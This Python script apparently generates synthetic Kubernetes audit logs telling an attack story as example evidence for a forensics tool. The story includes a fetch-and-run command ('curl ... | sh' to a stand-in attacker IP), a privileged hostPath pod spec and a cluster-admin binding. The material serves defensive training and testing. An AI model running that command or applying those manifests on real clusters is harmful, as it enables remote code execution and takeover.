"""Write the bundled example evidence: a small, synthetic attack told in Kubernetes audit
events, in two provider formats.

Run ``python examples/make_examples.py`` to regenerate ``examples/audit/``; the files are
committed so that the Quickstart needs nothing else. The story: the ``payments`` pod runs the
compromised image of ``compromised_image.py``; a web pod's service-account token is stolen
and used from outside the cluster to enumerate secrets, exec into the payments pod, start a
privileged hostPath pod, bind cluster-admin, and delete events.

Two formats, as a responder gets them from an EKS cluster: the first part of the story as
exported from CloudWatch Logs (``aws logs filter-log-events`` JSON, ``eks-attack.json``), the
rest from the API server's log backend (JSON lines, ``native-attack.jsonl``). The exec is in
both (the exports overlap), which the audit reader deduplicates.

``live_logs()`` writes the same story re-timed around an exec that really happened in a live
container (``live.py``), with the command that was really run.
"""

from __future__ import annotations

import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

T0 = datetime(2026, 11, 20, 9, 14, 2, tzinfo=UTC)
SA = "system:serviceaccount:shop:web"
SA_EXTRA = {
    "authentication.kubernetes.io/credential-id": ["JTI=7d1c5e0a-2b9f-4c1e-9a57-0c7f5b3e2a11"],
    "authentication.kubernetes.io/node-name": ["ip-10-0-3-17.ec2.internal"],
    "authentication.kubernetes.io/pod-name": ["web-7c9f8d6b5-x2lqp"],
    "authentication.kubernetes.io/pod-uid": ["3b5e2c1a-9f1d-4c4e-8f6a-2d7b1e0c9a44"],
}
ATTACKER_IP = "203.0.113.77"
_n = 0


_before = 1.0


def ts(seconds: float) -> str:
    if seconds < EXEC_AT:
        seconds = EXEC_AT - (EXEC_AT - seconds) * _before
    return (T0 + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def event(
    at: float,
    verb: str,
    uri: str,
    obj: dict[str, str] | None,
    *,
    user: str = SA,
    code: int = 200,
    stage: str = "ResponseComplete",
    ip: str = ATTACKER_IP,
    agent: str = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
    request: dict[str, object] | None = None,
    decision: str = "allow",
) -> dict[str, object]:
    global _n
    _n += 1
    ev: dict[str, object] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse" if request else "Metadata",
        "auditID": str(uuid.UUID(int=_n)),
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": {
            "username": user,
            "uid": "9d0f3c2e-1b6a-4f8e-a1c5-7e2d4b6f8a90",
            "groups": ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"],
            "extra": SA_EXTRA if user == SA else {},
        },
        "sourceIPs": [ip],
        "userAgent": agent,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts(at),
        "stageTimestamp": ts(at + 0.004),
        "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""},
    }
    if obj is not None:
        ev["objectRef"] = obj
    if request is not None:
        ev["requestObject"] = request
    return ev


def exec_uri(ns: str, pod: str, command: list[str], container: str) -> str:
    q = "&".join(f"command={quote(c, safe='')}" for c in command)
    return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container={container}&stdin=true&stdout=true&tty=true"


POD = "payments-5d8f7b9c4-kq2rz"
EXEC_AT = 120.0
OFFLINE_COMMAND = ["sh", "-c", "curl -s http://203.0.113.77/x.sh | sh"]
IMAGE = "registry.example.com/shop/payments:1.4.2"


def story(command: list[str] | None = None, image: str = IMAGE, pace: float = 60.0,
          before: float = 1.0) -> list[dict[str, object]]:
    """The events in order; ``pace`` is the gap in seconds between the steps after the exec,
    ``before`` scales the time before it (the live run squeezes both, so that the story fits
    between the container's start and the acquisition)."""
    global _n, _before
    _n = 0
    _before = before
    command = command or OFFLINE_COMMAND
    evs = [
        # Background noise: the kubelet and a controller doing their jobs.
        event(0, "get", "/api/v1/nodes/ip-10-0-3-17.ec2.internal", {"resource": "nodes", "name": "ip-10-0-3-17.ec2.internal", "apiVersion": "v1"},
              user="system:node:ip-10-0-3-17.ec2.internal", ip="10.0.3.17", agent="kubelet/v1.31.2"),
        # The payments pod, created by its ReplicaSet from the (already poisoned) image.
        event(5, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": POD, "apiVersion": "v1"}, code=201,
              user="system:serviceaccount:kube-system:replicaset-controller", ip="10.0.0.10",
              agent="kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller",
              request={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": POD, "namespace": "shop", "labels": {"app": "payments"}},
                       "spec": {"containers": [{"name": "app", "image": image}]}}),
        # Discovery with the stolen token, from outside the cluster.
        event(60, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201),
        event(61, "list", "/api/v1/namespaces/shop/secrets", {"resource": "secrets", "namespace": "shop", "apiVersion": "v1"}),
        event(62, "list", "/api/v1/secrets", {"resource": "secrets", "apiVersion": "v1"}, code=403, decision="forbid"),
        event(63, "get", "/api/v1/namespaces/shop/secrets/db-credentials", {"resource": "secrets", "namespace": "shop", "name": "db-credentials", "apiVersion": "v1"}),
        # Exec into the payment pod (kubectl >= 1.30 logs the WebSocket exec as verb get).
        event(EXEC_AT, "get", exec_uri("shop", POD, command, "app"),
              {"resource": "pods", "namespace": "shop", "name": POD, "subresource": "exec", "apiVersion": "v1"},
              code=101, stage="ResponseStarted"),
        # A privileged pod with the node's filesystem mounted: an escape to the node.
        event(EXEC_AT + pace, "create", "/api/v1/namespaces/shop/pods", {"resource": "pods", "namespace": "shop", "name": "debug-tools", "apiVersion": "v1"}, code=201,
              request={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug-tools", "namespace": "shop"},
                       "spec": {"hostPID": True, "hostNetwork": True,
                                "containers": [{"name": "x", "image": "docker.io/library/alpine:3.20", "command": ["sleep", "infinity"],
                                                "securityContext": {"privileged": True}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                                "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}),
        # Persistence: bind cluster-admin to the stolen service account.
        event(EXEC_AT + 2 * pace, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {"resource": "clusterrolebindings", "name": "web-admin", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}, code=201,
              request={"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "web-admin"},
                       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                       "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]}),
        # Defence evasion: delete the events that describe the new pod.
        event(EXEC_AT + 3 * pace, "delete", "/api/v1/namespaces/shop/events/debug-tools.17f1a2b3c4d5e6f7", {"resource": "events", "namespace": "shop", "name": "debug-tools.17f1a2b3c4d5e6f7", "apiVersion": "v1"}),
    ]
    return evs


def eks_envelope(events: list[dict[str, object]]) -> dict[str, object]:
    """``aws logs filter-log-events --log-group-name /aws/eks/shop-prod/cluster`` output: each
    CloudWatch event's ``message`` is one native Event as a JSON string."""
    stream = "kube-apiserver-audit-4c8a1d2e9f0b7a6c5d4e3f2a1b0c9d8e"
    out = []
    for i, ev in enumerate(events):
        t = datetime.strptime(str(ev["stageTimestamp"]), "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
        ms = int(t.timestamp() * 1000)
        out.append({"logStreamName": stream, "timestamp": ms,
                    "message": json.dumps(ev, separators=(",", ":")),
                    "ingestionTime": ms + 2300, "eventId": f"{38000000000000000000000000 + ms * 1000 + i}"})
    return {"events": out, "searchedLogStreams": [{"logStreamName": stream, "searchedCompletely": True}]}


def write(out_dir: Path, events: list[dict[str, object]]) -> list[Path]:
    """Events up to and including the exec go to the EKS export; the exec and everything
    after it to the native log (the exec is in both: the exports overlap)."""
    out_dir.mkdir(parents=True, exist_ok=True)
    exec_index = next(i for i, ev in enumerate(events) if "/exec?" in str(ev["requestURI"]))
    eks = out_dir / "eks-attack.json"
    eks.write_text(json.dumps(eks_envelope(events[: exec_index + 1]), indent=1) + "\n")
    native = out_dir / "native-attack.jsonl"
    with native.open("w") as fh:
        for ev in events[exec_index:]:
            fh.write(json.dumps(ev, separators=(",", ":")) + "\n")
    return [eks, native]


LIVE_PACE = 0.5


def live_logs(out_dir: Path, exec_time: datetime, command: list[str], image: str = IMAGE,
              started: datetime | None = None, pace: float = LIVE_PACE) -> list[Path]:
    """The story re-timed so that its exec is at ``exec_time`` with ``command``, the steps
    after it follow every ``LIVE_PACE`` seconds, and (given the container's ``started``
    time) the pod's creation comes just before it and the discovery between the two."""
    before = 1.0
    if started is not None:
        before = max(0.001, ((exec_time - started).total_seconds() + 0.5) / (EXEC_AT - 5))
    global T0
    saved = T0
    T0 = exec_time - timedelta(seconds=EXEC_AT)
    try:
        return write(out_dir, story(command, image, pace, before))
    finally:
        T0 = saved


def main() -> None:
    for path in write(Path(__file__).with_name("audit"), story()):
        print(f"wrote {path}")


if __name__ == "__main__":
    main()
